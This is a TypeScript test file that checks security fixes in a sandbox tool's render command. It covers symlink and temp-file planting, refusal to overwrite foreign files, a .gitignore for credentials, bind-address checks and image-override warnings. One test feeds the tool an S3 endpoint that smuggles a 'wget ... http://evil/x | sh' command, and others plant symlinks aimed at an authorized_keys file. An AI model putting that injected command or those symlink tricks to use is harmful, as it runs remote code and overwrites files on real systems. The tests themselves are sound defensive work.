/**
 * `render --out` into a directory someone else prepared (security review F3, F7) on the real filesystem:
 * planted symlinks are never followed (for writes, prunes or the directory itself), files mop-sandbox did not
 * write are not replaced without --force, temp files are exclusive, and a .gitignore keeps credentials out of git.
 */
import { spawnSync } from 'node:child_process';
import { existsSync, lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { afterAll, describe, expect, it } from 'vitest';
import { packageRoot } from '../../scripts/lib/paths.js';
import { RENDER_INDEX, writeRender } from '../../scripts/render/write.js';

const roots: string[] = [];
function box() {
  const root = mkdtempSync(join(tmpdir(), 'mop-write-'));
  roots.push(root);
  const victim = join(root, 'home');
  mkdirSync(join(victim, '.ssh'), { recursive: true });
  writeFileSync(join(victim, '.ssh', 'authorized_keys'), 'ssh-ed25519 AAAA alice\n');
  const out = join(root, 'repo', 'mop-render', 'compose-default');
  return { root, victim, out };
}
afterAll(() => roots.forEach((r) => rmSync(r, { recursive: true, force: true })));

const files = [
  { path: 'docker-compose.yml', content: 'services: {}\n' },
  { path: '.env', content: 'MOP_X=1\n', mode: 0o600 },
  { path: 'config/loki/loki.yaml', content: 'x: 1\n' },
];

describe('writeRender with planted paths', () => {
  it('does not prune through a symlinked directory listed in a planted index (review F3a PoC)', async () => {
    const { victim, out } = box();
    mkdirSync(out, { recursive: true });
    symlinkSync(victim, join(out, 'up'));
    writeFileSync(join(out, RENDER_INDEX), JSON.stringify({ files: ['up/.ssh/authorized_keys'] }));
    await writeRender(out, files);
    expect(readFileSync(join(victim, '.ssh', 'authorized_keys'), 'utf8')).toBe('ssh-ed25519 AAAA alice\n');
  });

  it('refuses to write into a symlinked directory inside the output', async () => {
    const { victim, out } = box();
    mkdirSync(out, { recursive: true });
    symlinkSync(victim, join(out, 'config'));
    writeFileSync(join(out, RENDER_INDEX), JSON.stringify({ files: [] }));
    await expect(writeRender(out, files)).rejects.toThrow(/config is a symlink inside the output directory/);
    expect(readdirSync(victim)).toEqual(['.ssh']);
  });

  it('refuses an output directory that is itself a symlink', async () => {
    const { victim, out } = box();
    mkdirSync(join(out, '..'), { recursive: true });
    symlinkSync(victim, out);
    await expect(writeRender(out, files)).rejects.toThrow(/is a symlink/);
    expect(readdirSync(victim)).toEqual(['.ssh']);
  });

  it('replaces a planted symlink at a file path instead of writing through it', async () => {
    const { victim, out } = box();
    mkdirSync(out, { recursive: true });
    symlinkSync(join(victim, '.ssh', 'authorized_keys'), join(out, '.env'));
    writeFileSync(join(out, RENDER_INDEX), JSON.stringify({ files: ['.env'] }));
    await writeRender(out, files);
    expect(readFileSync(join(victim, '.ssh', 'authorized_keys'), 'utf8')).toBe('ssh-ed25519 AAAA alice\n');
    expect(lstatSync(join(out, '.env')).isSymbolicLink()).toBe(false);
    expect(lstatSync(join(out, '.env')).mode & 0o777).toBe(0o600);
  });

  it('never writes into a pre-created temp file (the old name was <target>.<pid>.tmp)', async () => {
    const { out } = box();
    mkdirSync(out, { recursive: true });
    const trap = join(out, `.env.${process.pid}.tmp`);
    writeFileSync(trap, '', { mode: 0o666 });
    await writeRender(out, files);
    expect(readFileSync(trap, 'utf8')).toBe('');
    expect(readdirSync(out).filter((f) => f.endsWith('.tmp'))).toEqual([`.env.${process.pid}.tmp`]);
  });

  it('refuses a directory other users can write to', async () => {
    const { out } = box();
    mkdirSync(out, { recursive: true, mode: 0o777 });
    spawnSync('chmod', ['0777', out]);
    await expect(writeRender(out, files)).rejects.toThrow(/writable by other users/);
  });
});

describe('writeRender over files it did not write (refuseForeign, as `render` uses it)', () => {
  it("does not replace a project's own .env (review F3b PoC) and says how to proceed", async () => {
    const { out } = box();
    mkdirSync(out, { recursive: true });
    writeFileSync(join(out, '.env'), 'DATABASE_URL=postgres://prod-secret\n');
    await expect(writeRender(out, files, { refuseForeign: true })).rejects.toMatchObject({ code: 'RENDER_WOULD_OVERWRITE', exitCode: 2 });
    expect(readFileSync(join(out, '.env'), 'utf8')).toBe('DATABASE_URL=postgres://prod-secret\n');
    expect(existsSync(join(out, 'docker-compose.yml'))).toBe(false);
  });

  it('rewrites its own earlier render, and replaces foreign files only when forced', async () => {
    const { out } = box();
    await writeRender(out, files, { refuseForeign: true });
    await writeRender(out, files, { refuseForeign: true });
    writeFileSync(join(out, 'docker-compose.override.yml'), 'mine\n');
    await writeRender(out, files, { refuseForeign: true });
    expect(readFileSync(join(out, 'docker-compose.override.yml'), 'utf8')).toBe('mine\n');
    await expect(writeRender(out, [...files, { path: 'docker-compose.override.yml', content: 'x' }], { refuseForeign: true })).rejects.toMatchObject({ code: 'RENDER_WOULD_OVERWRITE' });
    await writeRender(out, [...files, { path: 'docker-compose.override.yml', content: 'x' }]);
    expect(readFileSync(join(out, 'docker-compose.override.yml'), 'utf8')).toBe('x');
  });
});

/** The CLI from source, run in `cwd` (tsx by absolute path, so any directory works). */
function cli(args: string[], env: Record<string, string>, cwd: string, workdir = packageRoot) {
  const tsx = pathToFileURL(join(packageRoot, 'node_modules', 'tsx', 'dist', 'loader.mjs')).href;
  const r = spawnSync(process.execPath, ['--import', tsx, join(packageRoot, 'scripts', 'cli.ts'), ...args], {
    cwd: workdir,
    encoding: 'utf8',
    timeout: 60_000,
    env: { PATH: process.env.PATH!, HOME: cwd, XDG_CONFIG_HOME: join(cwd, 'config'), MOP_STATE_DIR: join(cwd, 'state'), ...env },
  });
  return { code: r.status, stdout: r.stdout, stderr: r.stderr };
}

describe('mop-sandbox render (CLI)', () => {
  it('leaves a .gitignore that keeps the credentials out of git (review F7)', () => {
    const { root } = box();
    const repo = join(root, 'repo');
    mkdirSync(repo, { recursive: true });
    expect(spawnSync('git', ['init', '-q', repo]).status).toBe(0);
    const out = join(repo, 'rendered');
    const r = cli(['render', '--out', out, '--json'], {}, root);
    expect(r.code).toBe(0);
    const ignored = spawnSync('git', ['-C', repo, 'check-ignore', 'rendered/.env', 'rendered/docker-compose.yml'], { encoding: 'utf8' });
    expect(ignored.stdout.trim().split('\n')).toEqual(['rendered/.env']);
  });

  it('refuses the default output when ./mop-render is a symlink (a cloned repository could plant one)', () => {
    const { root, victim } = box();
    const repo = join(root, 'clone');
    mkdirSync(repo);
    symlinkSync(victim, join(repo, 'mop-render'));
    const r = cli(['render', '--json'], {}, root, repo);
    expect(r.code).toBe(2);
    expect(JSON.parse(r.stdout).error.what).toMatch(/mop-render: it is a symlink/);
    expect(readdirSync(victim)).toEqual(['.ssh']);
  });

  it('refuses an S3 endpoint with shell metacharacters and writes nothing (review F8 PoC)', () => {
    const { root } = box();
    const out = join(root, 'out');
    const r = cli(['render', '--store', 'external', '--out', out, '--json'], { MOP_S3_ENDPOINT: 's3.example:443 x; wget -qO- http://evil/x | sh; #' }, root);
    expect(r.code).toBe(2);
    expect(JSON.parse(r.stdout).error.what).toMatch(/s3Endpoint .* is not valid/);
    expect(existsSync(out)).toBe(false);
  });

  it('refuses a bind address off loopback unless --allow-non-loopback, and then warns (review F8)', () => {
    const { root } = box();
    const refused = cli(['render', '--out', join(root, 'a'), '--json'], { MOP_BIND_ADDRESS: '0.0.0.0' }, root);
    expect(refused.code).toBe(2);
    expect(JSON.parse(refused.stdout).error.what).toMatch(/bindAddress 0\.0\.0\.0 would publish every port/);
    const allowed = cli(['render', '--out', join(root, 'b'), '--allow-non-loopback', '--json'], { MOP_BIND_ADDRESS: '0.0.0.0' }, root);
    expect(allowed.code).toBe(0);
    expect(JSON.parse(allowed.stdout).warnings.join('\n')).toMatch(/ports are published on 0\.0\.0\.0/);
  });

  it('announces an image override on Alloy, which reads containers through the socket proxy, and on the gateway, whose image runs the proxy (review F4/F8)', () => {
    const { root } = box();
    const r = cli(['render', '--out', join(root, 'c'), '--json'], { MOP_IMAGE_ALLOY: 'evil/alloy:latest' }, root);
    expect(r.code).toBe(0);
    expect(JSON.parse(r.stdout).warnings.join('\n')).toMatch(/alloy reads container logs and settings .* through the socket proxy.* image override: evil\/alloy:latest/);
    const g = cli(['render', '--out', join(root, 'd'), '--json'], { MOP_IMAGE_GATEWAY: 'evil/node:latest' }, root);
    expect(g.code).toBe(0);
    expect(JSON.parse(g.stdout).warnings.join('\n')).toMatch(/gateway on compose also runs the socket proxy, which holds the Docker socket .* image override: evil\/node:latest/);
  });
});
